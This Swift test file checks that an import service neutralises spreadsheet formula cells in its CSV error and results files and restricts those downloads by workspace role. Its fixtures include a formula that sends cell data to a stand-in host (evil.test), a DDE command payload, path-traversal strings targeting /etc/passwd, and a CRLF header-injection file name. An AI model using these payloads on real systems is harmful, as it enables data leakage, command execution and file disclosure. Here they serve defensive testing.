import Foundation
import HTTPTypes
import StoreTestSupport
import Testing

/// Error and results files: served by import id only, to the owners and managers of its workspace; every cell a
/// spreadsheet would run as a formula is neutralised (SPEC §8).
@Suite struct FileAccessTests {
    static let hostileCSV = """
        First Name,Phone Number,Note
        =HYPERLINK("http://evil.test/?"&A1),+60121111111,@SUM(A1:A9)
        +cmd|' /C calc'!A0,+60 12-222 2222,-2+3
        -Bob,+60123333333,\tTabbed
        Cy,12,"\rReturn"
        Dee,+60124444444,-3.5

        """

    @Test(arguments: StoreEngines.all)
    func formulaCellsAreNeutralisedInTheErrorAndResultsFilesButPhoneNumbersStayIntact(engine: String) async throws {
        let app = try await TestApp(engine)
        let team = try await app.team()
        let ws = team.workspaceId
        try await app.run { client in
            let (id, review) = try await client.prepare(
                ws, Self.hostileCSV, token: team.owner,
                config: [
                    "purpose": "addNew", "identifier": "phone",
                    "mapping": [["column": 0, "field": "firstName"], ["column": 1, "field": "phone"]],
                ])
            #expect(review.status == .ok)
            let errors = try await client.send(
                .get, "/api/v1/workspaces/\(ws)/imports/\(id)/error-file", token: team.owner)
            #expect(errors.headers[.contentType]?.hasPrefix("text/csv") == true)
            #expect(errors.headers[.contentDisposition]?.contains("attachment") == true)
            let errorRows = parseCSV(errors.text)
            #expect(errorRows.count == 2)
            #expect(errorRows[1].first == "Cy")

            #expect(
                try await client.send(.post, "/api/v1/workspaces/\(ws)/imports/\(id)/start", token: team.owner).status
                    == .accepted)
            #expect(try await client.waitUntilFinished(ws, id, token: team.owner)["status"] as? String == "completed")
            let results = parseCSV(
                try await client.send(.get, "/api/v1/workspaces/\(ws)/imports/\(id)/results-file", token: team.owner)
                    .text)
            #expect(results.count == 6)
            let cells = results.dropFirst().flatMap { $0 }
            for cell in cells where !cell.isEmpty {
                let first = cell.unicodeScalars.first!
                let dangerous =
                    "=@\t\r".unicodeScalars.contains(first)
                    || ((first == "+" || first == "-")
                        && !cell.dropFirst().allSatisfy { "0123456789 -.()".contains($0) })
                #expect(!dangerous, "cell \(cell.debugDescription) can run as a formula")
            }
            #expect(results[1][0] == "'=HYPERLINK(\"http://evil.test/?\"&A1)")
            #expect(results[1][1] == "+60121111111")
            #expect(results[1][2] == "'@SUM(A1:A9)")
            #expect(results[2][0] == "'+cmd|' /C calc'!A0")
            #expect(results[2][1] == "+60 12-222 2222")
            #expect(results[2][2] == "'-2+3")
            #expect(results[3][0] == "'-Bob")
            #expect(results[5][2] == "-3.5")
            // The contacts themselves keep the values as given (the neutralising is for files only).
            let contacts = try await client.send(
                .get, "/api/v1/workspaces/\(ws)/contacts?search=hyperlink", token: team.owner
            ).json
            #expect(
                (contacts["contacts"] as? [[String: Any]])?.first?["firstName"] as? String
                    == "=HYPERLINK(\"http://evil.test/?\"&A1)")
        }
    }

    @Test(arguments: StoreEngines.all) func filesAreServedOnlyToManagersOfTheirWorkspaceByImportId(engine: String)
        async throws
    {
        let app = try await TestApp(engine)
        let team = try await app.team("Mine")
        let other = try await app.team("Theirs")
        let ws = team.workspaceId
        try await app.run { client in
            let (id, _) = try await client.prepare(
                ws, "First Name,Phone\nAnn,+60121111111\nBad,12\n", token: team.owner,
                config: [
                    "purpose": "addNew", "identifier": "phone",
                    "mapping": [["column": 0, "field": "firstName"], ["column": 1, "field": "phone"]],
                ])
            let errorFile = "/api/v1/workspaces/\(ws)/imports/\(id)/error-file"
            #expect(try await client.send(.get, errorFile, token: team.manager).status == .ok)
            #expect(try await client.send(.get, errorFile, token: team.agent).status == .forbidden)
            #expect(try await client.send(.get, errorFile, token: other.owner).status == .notFound)
            #expect(try await client.send(.get, errorFile).status == .unauthorized)
            // The other workspace's id in the path with this import id: not found, it is not theirs.
            let crossed = try await client.send(
                .get, "/api/v1/workspaces/\(other.workspaceId)/imports/\(id)/error-file", token: other.owner)
            #expect(crossed.status == .notFound)

            #expect(
                try await client.send(.post, "/api/v1/workspaces/\(ws)/imports/\(id)/start", token: team.owner).status
                    == .accepted)
            _ = try await client.waitUntilFinished(ws, id, token: team.owner)
            let resultsFile = "/api/v1/workspaces/\(ws)/imports/\(id)/results-file"
            #expect(try await client.send(.get, resultsFile, token: team.manager).status == .ok)
            #expect(try await client.send(.get, resultsFile, token: team.agent).status == .forbidden)
            #expect(try await client.send(.get, resultsFile, token: other.owner).status == .notFound)
            #expect(
                try await client.send(
                    .get, "/api/v1/workspaces/\(other.workspaceId)/imports/\(id)/results-file", token: other.owner
                ).status
                    == .notFound)
            // Anything but a positive import id never names a file.
            for raw in [
                "..", "..%2F..%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd", "1%00", "0", "-1", "1.csv", "contact-import.sqlite",
            ] {
                let reply = try await client.send(
                    .get, "/api/v1/workspaces/\(ws)/imports/\(raw)/results-file", token: team.owner)
                #expect(reply.status == .notFound, "\(raw): \(reply.status)")
                #expect(!reply.text.contains("root:"))
            }
            // The download name is derived from the stored file name, made safe for the header.
            let named = try await client.send(
                .post, "/api/v1/workspaces/\(ws)/imports?fileName=%22%3B%20evil%0D%0AX-Injected%3A%201.csv",
                token: team.owner,
                raw: "First Name\nAnn\n", contentType: "text/csv")
            #expect(named.status == .created)
            #expect(named.headers[HTTPField.Name("X-Injected")!] == nil)
        }
    }
}
